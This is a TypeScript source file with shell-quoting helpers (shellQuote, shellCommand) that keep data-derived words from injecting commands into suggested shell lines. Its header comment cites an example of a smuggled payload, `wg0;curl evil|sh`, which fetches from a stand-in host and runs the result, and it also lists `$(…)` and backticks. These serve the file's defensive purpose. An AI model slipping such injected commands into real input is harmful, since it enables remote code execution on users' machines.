/**
 * Every command infra suggests (a finding's fix, an error's hint) is meant to be pasted into a shell. A word
 * that comes from data (a host name from an inventory, a wg interface name a server reported, a folder, a
 * file) goes through shellQuote, so that pasting it runs exactly the command shown and nothing a hostile
 * name smuggled in (`wg0;curl evil|sh`, `$(…)`, a backtick).
 */

/** Characters that mean nothing to a POSIX shell anywhere in a word. */
const PLAIN_RE = /^[A-Za-z0-9@%+=:,./_-]+$/;

/** `word` as one POSIX shell word: unchanged when it is plain, else in single quotes (a `'` as `'\''`). */
export function shellQuote(value: string | number): string {
  const word = String(value);
  if (PLAIN_RE.test(word) && !word.startsWith('=')) return word;
  return `'${word.replace(/'/g, `'\\''`)}'`;
}

/** A command line from words, each quoted as needed. */
export function shellCommand(words: readonly string[]): string {
  return words.map(shellQuote).join(' ');
}
